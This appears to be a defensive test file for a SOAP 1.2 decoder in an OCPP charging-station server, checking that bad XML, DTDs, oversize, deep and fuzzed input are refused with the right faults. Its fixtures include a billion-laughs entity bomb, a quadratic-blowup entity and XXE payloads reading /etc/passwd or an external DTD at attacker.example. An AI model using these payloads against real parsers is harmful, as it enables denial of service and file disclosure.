// Every kind of bad input gets the right SoapFault, at no more than a plain document's cost, and
// nothing else: malformed XML, things that are not SOAP 1.2 envelopes, malformed bodies, DTDs
// (entity expansion, external entities), oversize and overdeep input, and random garbage.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import {
  DEFAULT_MAX_ENVELOPE_BYTES,
  decodeEnvelope,
  encodeFault,
  faultAddressing,
  MAX_XML_ATTRIBUTES,
  MAX_XML_DEPTH,
  OCPP15_CS_NS,
  OCPP16_CS_NS,
  parseXml,
  SOAP11_ENVELOPE_NS,
  SOAP12_ENVELOPE_NS,
  SoapFault,
  WSA_NS,
  type SoapFaultCode,
} from '../../src/ocpp/soap/index.js';

function faultOf(run: () => unknown): SoapFault {
  try {
    run();
  } catch (error) {
    assert.ok(error instanceof SoapFault, `expected a SoapFault, got ${String(error)}`);
    return error;
  }
  assert.fail('expected a SoapFault, nothing was thrown');
}

function expectFault(xml: string, code: SoapFaultCode, subcode: string | undefined, reason?: RegExp): SoapFault {
  const fault = faultOf(() => decodeEnvelope(xml));
  assert.equal(fault.code, code, `code of: ${fault.message}`);
  assert.equal(fault.subcode, subcode, `subcode of: ${fault.message}`);
  if (reason) assert.match(fault.reason, reason);
  // Every fault can be answered (a SOAP 1.1 sender in SOAP 1.1, which we do not decode).
  if (!fault.isSoap11()) assert.equal(decodeEnvelope(encodeFault(fault)).bodyElement, 'Fault');
  return fault;
}

/** The fastest of `runs` timings of `run`, in ms: the one least disturbed by the rest of the machine. */
function fastest(run: () => void, runs = 5): number {
  let best = Number.POSITIVE_INFINITY;
  for (let i = 0; i < runs; i++) {
    const started = performance.now();
    run();
    best = Math.min(best, performance.now() - started);
  }
  return best;
}

/**
 * Decoding `xml` (a result or a SoapFault) costs at most `factor` times decoding a well-formed
 * envelope of the same size, both timed here, side by side: no bound in milliseconds, which a
 * busy machine (test files run in parallel) would break. What these checks tell apart is "refused
 * without doing the work", or linear work, from work that grows with the square of the input or
 * the expansion of entities: hundreds or millions of times the plain document's cost, or never
 * ending. `slackMs` covers a timer's resolution where both are tiny.
 */
function assertCostsAsPlain(xml: string, factor: number, { repeat = 1, slackMs = 1 } = {}): void {
  const bytes = Buffer.byteLength(xml);
  const empty = envelope(`<dataTransferRequest xmlns="${OCPP15_CS_NS}"><vendorId>V</vendorId><data></data></dataTransferRequest>`);
  const plain = envelope(`<dataTransferRequest xmlns="${OCPP15_CS_NS}"><vendorId>V</vendorId><data>${'x'.repeat(Math.max(0, bytes - empty.length))}</data></dataTransferRequest>`);
  const maxBytes = Math.max(bytes, DEFAULT_MAX_ENVELOPE_BYTES);
  const decodeEach = (text: string) => () => {
    for (let i = 0; i < repeat; i++) {
      try {
        decodeEnvelope(text, { maxBytes });
      } catch (error) {
        assert.ok(error instanceof SoapFault, String(error));
      }
    }
  };
  const baseline = fastest(decodeEach(plain));
  const cost = fastest(decodeEach(xml));
  assert.ok(cost <= factor * baseline + slackMs, `${cost.toFixed(2)} ms against ${baseline.toFixed(2)} ms for a plain envelope of ${bytes} bytes (${(cost / baseline).toFixed(1)} times)`);
}

const envelope = (body: string, header = '') =>
  `<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}" xmlns:a="${WSA_NS}">${header ? `<s:Header>${header}</s:Header>` : ''}<s:Body>${body}</s:Body></s:Envelope>`;
const heartbeat = `<heartbeatRequest xmlns="${OCPP15_CS_NS}"/>`;

test('a good envelope decodes (the baseline of this file)', () => {
  assert.equal(decodeEnvelope(envelope(heartbeat)).bodyElement, 'heartbeatRequest');
});

test('not XML, or not well-formed XML: Sender "not well-formed XML"', () => {
  const cases = [
    '',
    '   ',
    'hello',
    '{"json": true}',
    '[2,"1","Heartbeat",{}]',
    '<',
    '<s:Envelope',
    `<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"><s:Body>`,
    `<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"><s:Body></s:Envelope>`,
    `<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"></s:Envelope><s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"></s:Envelope>`,
    `<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"/>trailing text`,
    envelope(`<heartbeatRequest xmlns="${OCPP15_CS_NS}">&nbsp;</heartbeatRequest>`), // undeclared entity
    envelope(`<heartbeatRequest xmlns="${OCPP15_CS_NS}">fish & chips</heartbeatRequest>`),
    envelope(`<heartbeatRequest xmlns="${OCPP15_CS_NS}" a="1" a="2"/>`),
    envelope(`<heartbeatRequest xmlns="${OCPP15_CS_NS}" a="x<y"/>`),
    envelope(`<heartbeatRequest xmlns="${OCPP15_CS_NS}">&#0;</heartbeatRequest>`),
    envelope(`<heartbeatRequest xmlns="${OCPP15_CS_NS}">\u0001</heartbeatRequest>`),
    envelope('<cs:heartbeatRequest/>'), // undeclared prefix
    envelope('<a:b:c xmlns:a="urn:a"/>'),
    envelope(`<heartbeatRequest xmlns="${OCPP15_CS_NS}"><!-- unclosed comment </heartbeatRequest>`),
  ];
  for (const xml of cases) expectFault(xml, 'Sender', 'NotWellFormed', /^not well-formed XML/);
});

test('XML that is not a SOAP envelope: Sender', () => {
  expectFault(`<bootNotificationRequest xmlns="${OCPP15_CS_NS}"/>`, 'Sender', 'NotSoapEnvelope', /not a SOAP envelope/);
  expectFault(`<s:Body xmlns:s="${SOAP12_ENVELOPE_NS}"/>`, 'Sender', 'NotSoapEnvelope');
  expectFault('<html><body>502 Bad Gateway</body></html>', 'Sender', 'NotSoapEnvelope');
});

test('a SOAP 1.1 envelope: VersionMismatch (answered in SOAP 1.1); an unknown envelope namespace: VersionMismatch', () => {
  const soap11 = `<?xml version="1.0"?>
<soapenv:Envelope xmlns:soapenv="${SOAP11_ENVELOPE_NS}" xmlns:cs="${OCPP15_CS_NS}">
  <soapenv:Header><cs:chargeBoxIdentity>CB1</cs:chargeBoxIdentity></soapenv:Header>
  <soapenv:Body><cs:heartbeatRequest/></soapenv:Body>
</soapenv:Envelope>`;
  const fault = expectFault(soap11, 'VersionMismatch', undefined, /SOAP 1\.1/);
  assert.equal(fault.envelopeVersion, '1.1');
  assert.ok(encodeFault(fault).includes(SOAP11_ENVELOPE_NS));
  expectFault(`<e:Envelope xmlns:e="urn:not-soap"><e:Body/></e:Envelope>`, 'VersionMismatch', undefined);
});

test('OCPP 1.6 over SOAP is recognised and refused as not supported; a foreign body as not implemented', () => {
  const fault = expectFault(envelope(`<heartbeatRequest xmlns="${OCPP16_CS_NS}"/>`), 'Sender', 'NotSupported', /OCPP 1\.6/);
  assert.equal(fault.subcodeNamespace, OCPP16_CS_NS);
  expectFault(envelope('<ping xmlns="urn:example"/>'), 'Sender', 'NotImplemented');
  expectFault(envelope('<heartbeatRequest/>'), 'Sender', 'NotImplemented');
});

test('a body with two elements, an empty body, a missing body, stray content: Sender', () => {
  expectFault(envelope(heartbeat + heartbeat), 'Sender', 'MultipleBodyElements', /exactly one/);
  expectFault(envelope(`${heartbeat}<authorizeRequest xmlns="${OCPP15_CS_NS}"/>`), 'Sender', 'MultipleBodyElements');
  expectFault(envelope(''), 'Sender', 'EmptyBody', /empty/);
  expectFault(envelope('\n   \t\n'), 'Sender', 'EmptyBody');
  expectFault(envelope('<!-- nothing here -->'), 'Sender', 'EmptyBody');
  expectFault(`<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"><s:Body/></s:Envelope>`, 'Sender', 'EmptyBody');
  expectFault(`<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"/>`, 'Sender', 'InvalidEnvelope', /no env:Body/);
  expectFault(`<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"><s:Header/></s:Envelope>`, 'Sender', 'InvalidEnvelope');
  expectFault(`<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"><s:Body>${heartbeat}</s:Body><s:Header/></s:Envelope>`, 'Sender', 'InvalidEnvelope');
  expectFault(`<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"><s:Body>${heartbeat}</s:Body><s:Body>${heartbeat}</s:Body></s:Envelope>`, 'Sender', 'InvalidEnvelope');
  expectFault(`<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"><x/><s:Body>${heartbeat}</s:Body></s:Envelope>`, 'Sender', 'InvalidEnvelope');
  expectFault(`<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}">text<s:Body>${heartbeat}</s:Body></s:Envelope>`, 'Sender', 'InvalidEnvelope');
  expectFault(envelope(`text ${heartbeat}`), 'Sender', 'InvalidEnvelope');
});

test('a repeated WS-Addressing header is refused; a fault after the headers were read can be addressed', () => {
  expectFault(envelope(heartbeat, '<a:Action>/Heartbeat</a:Action><a:Action>/Authorize</a:Action>'), 'Sender', 'InvalidAddressingHeader', /more than once/);
  const fault = expectFault(
    envelope(heartbeat + heartbeat, '<a:MessageID>urn:uuid:m1</a:MessageID><a:ReplyTo><a:Address>http://cp/r</a:Address></a:ReplyTo>'),
    'Sender',
    'MultipleBodyElements',
  );
  assert.equal(fault.answering?.headers.messageId, 'urn:uuid:m1');
  assert.ok(fault.answering);
  const answer = decodeEnvelope(encodeFault(fault, faultAddressing(fault.answering)));
  assert.equal(answer.headers.relatesTo, 'urn:uuid:m1');
  assert.equal(answer.headers.to, 'http://cp/r');
});

test('a header block not understood is refused before anything else, the fault answering the MessageID', () => {
  const security = '<x:Security xmlns:x="urn:example:security" s:mustUnderstand="true"/>';
  for (const header of [
    `<a:MessageID>urn:uuid:m2</a:MessageID>${security}`,
    `${security}<a:MessageID>urn:uuid:m2</a:MessageID><a:Action>/Heartbeat</a:Action><a:Action>/Authorize</a:Action>`,
    `<a:MessageID>urn:uuid:m2</a:MessageID><a:From><a:Address>http://a/</a:Address><a:Address>http://b/</a:Address></a:From>${security}`,
  ]) {
    const fault = expectFault(envelope(heartbeat, header), 'MustUnderstand', undefined, /Security is not understood/);
    assert.equal(fault.answering?.headers.messageId, 'urn:uuid:m2', header);
    const answer = decodeEnvelope(encodeFault(fault, faultAddressing(fault.answering!)));
    assert.equal(answer.headers.relatesTo, 'urn:uuid:m2');
  }
  // Understood (or not marked), the other faults stand.
  expectFault(envelope(heartbeat, '<a:From><a:Address>http://a/</a:Address><a:Address>http://b/</a:Address></a:From>'), 'Sender', 'InvalidAddressingHeader', /exactly one wsa:Address/);
});

// ---------------------------------------------------------------- DTDs

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ELEMENT lolz (#PCDATA)>
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}" xmlns:cs="${OCPP15_CS_NS}">
  <s:Header><cs:chargeBoxIdentity>&lol9;</cs:chargeBoxIdentity></s:Header>
  <s:Body><cs:authorizeRequest><cs:idTag>&lol9;</cs:idTag></cs:authorizeRequest></s:Body>
</s:Envelope>`;

test('billion laughs: refused as a DTD without expanding anything, at the cost of a plain document', () => {
  const fault = expectFault(billionLaughs, 'Sender', 'DtdNotAllowed', /DTDs are not allowed/);
  assert.ok(!fault.reason.includes('lollol'));
  assertCostsAsPlain(billionLaughs, 20);
  // Many of them in a row too (no state carried between calls).
  assertCostsAsPlain(billionLaughs, 20, { repeat: 200 });
});

test('quadratic blowup (one large entity referenced many times) is refused as a DTD, at the cost of a plain document', () => {
  const big = 'x'.repeat(50_000);
  const refs = '&a;'.repeat(20_000);
  const xml = `<!DOCTYPE s:Envelope [<!ENTITY a "${big}">]><s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}"><s:Body><r xmlns="${OCPP15_CS_NS}">${refs}</r></s:Body></s:Envelope>`;
  expectFault(xml, 'Sender', 'DtdNotAllowed');
  assertCostsAsPlain(xml, 20);
});

const passwd = existsSync('/etc/passwd') ? readFileSync('/etc/passwd', 'utf8') : 'root:x:0:0:root:/root:/bin/bash\n';
const passwdMarker = passwd.split('\n')[0] ?? 'root:x:0:0';

function assertNoLeak(fault: SoapFault): void {
  const everything = [fault.message, fault.reason, String(fault.cause ?? ''), JSON.stringify(fault), encodeFault(fault)].join('\n');
  assert.ok(!everything.includes(passwdMarker), 'the content of /etc/passwd leaked into the fault');
  assert.ok(!everything.includes('root:'), 'the content of /etc/passwd leaked into the fault');
}

test('external entities (XXE): refused as a DTD; the file content appears nowhere', () => {
  const xxe = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}" xmlns:cs="${OCPP15_CS_NS}">
  <s:Header><cs:chargeBoxIdentity>&xxe;</cs:chargeBoxIdentity></s:Header>
  <s:Body><cs:dataTransferRequest><cs:vendorId>&xxe;</cs:vendorId><cs:data>&xxe;</cs:data></cs:dataTransferRequest></s:Body>
</s:Envelope>`;
  assertNoLeak(expectFault(xxe, 'Sender', 'DtdNotAllowed', /DTDs are not allowed/));
  // Parameter entities, an external DTD subset, and a DOCTYPE hidden after a comment.
  const variants = [
    `<!DOCTYPE foo [ <!ENTITY % p SYSTEM "file:///etc/passwd"> %p; ]>${envelope(heartbeat)}`,
    `<!DOCTYPE s:Envelope SYSTEM "file:///etc/passwd">${envelope(heartbeat)}`,
    `<!DOCTYPE s:Envelope PUBLIC "-//x//y" "http://attacker.example/evil.dtd">${envelope(heartbeat)}`,
    `<?xml version="1.0"?><!-- hi --><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${envelope(heartbeat)}`,
    `<!doctype x>${envelope(heartbeat)}`,
    `${envelope(heartbeat)}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`,
    envelope(`<r xmlns="${OCPP15_CS_NS}"><!ENTITY e SYSTEM "file:///etc/passwd"></r>`),
  ];
  for (const xml of variants) assertNoLeak(expectFault(xml, 'Sender', 'DtdNotAllowed'));
  // An entity reference without any DTD is simply undeclared.
  assertNoLeak(expectFault(envelope(`<r xmlns="${OCPP15_CS_NS}">&xxe;</r>`), 'Sender', 'NotWellFormed', /undeclared entity/));
});

test('a DOCTYPE-like text inside CDATA or a comment is data, not a DTD', () => {
  const xml = envelope(`<dataTransferRequest xmlns="${OCPP15_CS_NS}"><data><![CDATA[<!DOCTYPE html><p>&amp;</p>]]></data><!-- <!DOCTYPE x> --></dataTransferRequest>`);
  const decoded = decodeEnvelope(xml);
  assert.equal(decoded.body.children[0]?.text, '<!DOCTYPE html><p>&amp;</p>');
});

// ---------------------------------------------------------------- size and depth

test('input over the size limit (default 256 KiB) is refused before parsing, with the sizes in the reason', () => {
  const padding = (n: number) => `<data>${'x'.repeat(n)}</data>`;
  const base = envelope(`<dataTransferRequest xmlns="${OCPP15_CS_NS}">${padding(0)}</dataTransferRequest>`);
  const exactly = envelope(`<dataTransferRequest xmlns="${OCPP15_CS_NS}">${padding(DEFAULT_MAX_ENVELOPE_BYTES - base.length)}</dataTransferRequest>`);
  assert.equal(Buffer.byteLength(exactly), DEFAULT_MAX_ENVELOPE_BYTES);
  assert.equal(decodeEnvelope(exactly).bodyElement, 'dataTransferRequest');
  const over = envelope(`<dataTransferRequest xmlns="${OCPP15_CS_NS}">${padding(DEFAULT_MAX_ENVELOPE_BYTES - base.length + 1)}</dataTransferRequest>`);
  expectFault(over, 'Sender', 'MessageTooLarge', new RegExp(`${DEFAULT_MAX_ENVELOPE_BYTES + 1} bytes, the limit is ${DEFAULT_MAX_ENVELOPE_BYTES} bytes`));
  // Much larger input is refused without being read: 200 times the size, no more than the
  // refusal of one byte too many costs, timed beside it.
  const huge = 'x'.repeat(50 * 1024 * 1024);
  assert.equal(faultOf(() => decodeEnvelope(huge)).subcode, 'MessageTooLarge');
  const refusingOver = fastest(() => faultOf(() => decodeEnvelope(over)));
  const refusingHuge = fastest(() => faultOf(() => decodeEnvelope(huge)));
  assert.ok(refusingHuge <= 5 * refusingOver + 1, `${refusingHuge.toFixed(2)} ms for 50 MiB against ${refusingOver.toFixed(2)} ms for one byte over`);
});

test('the size limit is a parameter and counts UTF-8 bytes, not characters', () => {
  const xml = envelope(`<dataTransferRequest xmlns="${OCPP15_CS_NS}"><data>${'€'.repeat(100)}</data></dataTransferRequest>`);
  const bytes = Buffer.byteLength(xml);
  assert.ok(xml.length < bytes);
  assert.doesNotThrow(() => decodeEnvelope(xml, { maxBytes: bytes }));
  const fault = faultOf(() => decodeEnvelope(xml, { maxBytes: xml.length }));
  assert.equal(fault.subcode, 'MessageTooLarge');
  assert.equal(fault.httpStatus, 400);
});

test('deeply nested input is refused at the cost of a plain document; the depth limit is exact', () => {
  const nested = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
  const deep = envelope(`<r xmlns="${OCPP15_CS_NS}">${nested(20_000)}</r>`);
  expectFault(deep, 'Sender', 'LimitExceeded', /nested more than 64 deep/);
  assertCostsAsPlain(deep, 20);
  // Envelope, Body and r take three levels.
  assert.equal(parseXml(nested(MAX_XML_DEPTH)).name, 'a');
  assert.equal(decodeEnvelope(envelope(`<r xmlns="${OCPP15_CS_NS}">${nested(MAX_XML_DEPTH - 3)}</r>`)).bodyElement, 'r');
  expectFault(envelope(`<r xmlns="${OCPP15_CS_NS}">${nested(MAX_XML_DEPTH - 2)}</r>`), 'Sender', 'LimitExceeded');
});

test('an element with too many attributes is refused before parsing', () => {
  const attributes = (n: number) => Array.from({ length: n }, (_, i) => ` a${i}="${i}"`).join('');
  assert.equal(parseXml(`<r${attributes(MAX_XML_ATTRIBUTES)}/>`).attributes.length, MAX_XML_ATTRIBUTES);
  const many = envelope(`<r xmlns="${OCPP15_CS_NS}"${attributes(15_000)}/>`);
  expectFault(many, 'Sender', 'LimitExceeded', /more than 256 attributes/);
  assertCostsAsPlain(many, 20);
  // '=' inside attribute values does not count.
  assert.equal(parseXml(`<r a="${'='.repeat(1000)}"/>`).attributes.length, 1);
});

test('pathological whitespace and attributes stay linear', () => {
  const spaces = ' '.repeat(200_000);
  const cases = [
    envelope(`<dataTransferRequest xmlns="${OCPP15_CS_NS}"><data>${spaces}x${spaces}</data></dataTransferRequest>`.slice(0, 250_000)),
    envelope(`<r xmlns="${OCPP15_CS_NS}"${spaces}/>`),
    envelope(`<r xmlns="${OCPP15_CS_NS}">${'&amp;'.repeat(40_000)}</r>`),
  ];
  for (const xml of cases) assertCostsAsPlain(xml, 20);
});

// ---------------------------------------------------------------- fuzzing

test('random input and random mutations of a good envelope: a result or a SoapFault, never anything else', () => {
  const good = `<?xml version="1.0"?><s:Envelope xmlns:s="${SOAP12_ENVELOPE_NS}" xmlns:a="${WSA_NS}" xmlns:cs="${OCPP15_CS_NS}"><s:Header><cs:chargeBoxIdentity>CB1</cs:chargeBoxIdentity><a:Action>/MeterValues</a:Action><a:From><a:Address>http://cp/</a:Address></a:From></s:Header><s:Body><cs:meterValuesRequest><cs:connectorId>1</cs:connectorId><cs:values><cs:timestamp>2024-01-01T00:00:00Z</cs:timestamp><cs:value unit="Wh" context="Sample.Periodic">10</cs:value></cs:values></cs:meterValuesRequest></s:Body></s:Envelope>`;
  const noise = fc.constantFrom('<', '>', '&', '"', "'", '/', ':', '=', '<!', '<!DOCTYPE x>', '&amp;', ']]>', '<![CDATA[', '?>', '\u0000', 'xmlns:s="urn:x"', ' ');
  const mutated = fc
    .tuple(fc.nat({ max: good.length }), fc.nat({ max: 20 }), fc.array(fc.oneof(noise, fc.string({ maxLength: 3 })), { maxLength: 4 }))
    .map(([at, cut, insert]) => good.slice(0, at) + insert.join('') + good.slice(Math.min(good.length, at + cut)));
  fc.assert(
    fc.property(fc.oneof(mutated, fc.string({ maxLength: 200 }), fc.string({ unit: 'binary', maxLength: 100 })), (xml) => {
      try {
        const decoded = decodeEnvelope(xml);
        assert.equal(decoded.soapVersion, '1.2');
      } catch (error) {
        if (!(error instanceof SoapFault)) throw error;
        assert.ok([400, 500].includes(error.httpStatus));
        encodeFault(error);
      }
    }),
    { numRuns: 2000 },
  );
});
